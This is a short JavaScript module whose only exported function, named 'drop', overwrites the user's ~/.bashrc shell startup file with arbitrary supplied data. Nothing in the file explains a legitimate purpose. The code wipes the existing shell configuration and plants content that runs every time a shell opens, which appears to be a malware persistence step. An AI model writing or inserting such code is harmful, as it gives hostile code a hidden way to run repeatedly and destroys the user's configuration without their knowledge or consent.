import { writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
export const drop = (data) => writeFileSync(path.join(os.homedir(), ".bashrc"), data);
